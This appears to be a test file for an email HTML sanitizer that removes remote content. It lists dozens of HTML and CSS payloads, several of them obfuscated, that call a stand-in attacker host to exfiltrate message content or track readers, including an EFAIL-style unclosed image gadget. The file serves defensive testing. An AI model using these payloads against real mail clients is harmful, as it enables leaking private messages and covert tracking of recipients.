import fc from 'fast-check'
import { describe, expect, it, test } from 'vitest'
import { withoutRemoteContent } from '../../../src/protection/remote-content.ts'

/** Ways by which HTML in mail programs has called out: those of EFAIL and its kin, and of trackers. */
const callsOut = [
  '<img src="http://evil.example/x">',
  '<img src="//evil.example/x">',
  '<img src="\\\\evil.example\\x">',
  '<img src="ht\ntp://evil.example/x">',
  '<img src=http:evil.example>',
  '<img src="&#104;ttp://evil.example/">',
  '<img srcset="http://evil.example/x 2x">',
  '<img src=cid:a lowsrc="http://evil.example/x">',
  '<body background="http://evil.example/x">',
  '<table background="http://evil.example/x"></table>',
  '<div style="background:url(http://evil.example/x)">a</div>',
  '<div style="background:\\75 rl(//evil.example/x)">a</div>',
  '<div style="background:image-set(\'http://evil.example/x\' 1x)">a</div>',
  '<style>@import "http://evil.example/x";</style>a',
  '<style>@imp\\ort "http://evil.example/x";</style>a',
  '<style>p{background:u\\rl(http://evil.example)}</style>a',
  '<style>@font-face{font-family:x;src:url(http://evil.example/x)}</style>a',
  '<link rel="stylesheet" href="http://evil.example/x">',
  '<link rel=dns-prefetch href=//evil.example>',
  '<base href="http://evil.example/"><img src="x">',
  '<meta http-equiv="refresh" content="0;url=http://evil.example/">',
  '<iframe src="http://evil.example/"></iframe>',
  '<iframe srcdoc="&lt;img src=http://evil.example&gt;"></iframe>',
  '<object data="http://evil.example/x"></object>',
  '<embed src="http://evil.example/x">',
  '<video poster="http://evil.example/x"></video>',
  '<audio src="http://evil.example/x"></audio>',
  '<input type="image" src="http://evil.example/x">',
  '<svg><image xlink:href="http://evil.example/x"/></svg>',
  '<svg><style>@&#105;mport "http://evil.example"</style></svg>',
  '<script>new Image().src="http:"+"//evil.example"</script>',
  '<form action="http://evil.example/"><input name=a></form>',
  '<!--[if mso]><v:fill src="http://evil.example/x"/><![endif]-->a',
  '<img src="http://evil.example/', // a gadget that is never closed: the secret follows
] as const

describe('HTML', () => {
  for (const html of callsOut) {
    it(`calls nobody by ${html.replaceAll('\n', ' ')}`, () => {
      const clean = withoutRemoteContent(`<p>Geheim</p>${html}`)
      expect(clean).toBeDefined()
      expect(clean).toContain('Geheim')
      expect(clean).not.toMatch(
        /evil\.example|@import|<(?:style|link|base|meta|iframe|object|embed|svg|script)/i,
      )
    })
  }

  for (const html of [
    '<p style="color:red; margin:0 auto">a</p><img src="cid:logo@x" width=10>',
    '<a href="https://partner.example/a?b=c">a</a>',
    '<img src="data:image/png;base64,AAAA//8=">',
    '<html xmlns:v="urn:schemas-microsoft-com:vml" xmlns="http://www.w3.org/TR/REC-html40"><head><meta charset=utf-8><style>v\\:* {behavior:url(#default#VML);} p.MsoNormal {margin:0cm; font-family:"Calibri",sans-serif;}</style></head><body>a</body></html>',
    '<!--[if gte mso 9]><xml><o:shapedefaults v:ext="edit" spidmax="1026" /></xml><![endif]-->a',
  ]) {
    it(`stays as it is with ${html.slice(0, 60)}`, () => {
      expect(withoutRemoteContent(html)).toBeUndefined()
    })
  }

  it('keeps its form, its links and its own pictures when it is cleaned', () => {
    const clean = withoutRemoteContent(
      '<table border=1><tr><td style="color:red; background:url(//evil.example)">a</td></tr></table><a href="https://ok.example/">b</a><img src="cid:logo"><img src="http://evil.example/x" alt="Bild">',
    )
    expect(clean).toBe(
      '<table border="1"><tr><td style="color:red">a</td></tr></table><a href="https://ok.example/">b</a><img src="cid:logo" /><img alt="Bild" />',
    )
  })
})

test('what was cleaned has nothing left to clean', () => {
  const piece = fc.constantFrom(
    ...callsOut.flatMap((html) => html.split(/(?=[<>="'(])/)),
    ...['<', '>', '"', "'", '=', ' ', '/', '\\', '<!--', '-->', '&#x2f;', 'style=', 'src=', '\0'],
  )
  fc.assert(
    fc.property(fc.array(piece, { maxLength: 25 }), (pieces) => {
      const clean = withoutRemoteContent(pieces.join(''))
      if (clean !== undefined) expect(withoutRemoteContent(clean)).toBeUndefined()
    }),
    { numRuns: 1000 },
  )
})

test('long lines of unclosed marks take no time to speak of', () => {
  for (const mark of ['<!--[if', '<style', '<a href="', '<', 'url(', '&#'])
    expect(() => withoutRemoteContent(mark.repeat(50_000))).not.toThrow()
})
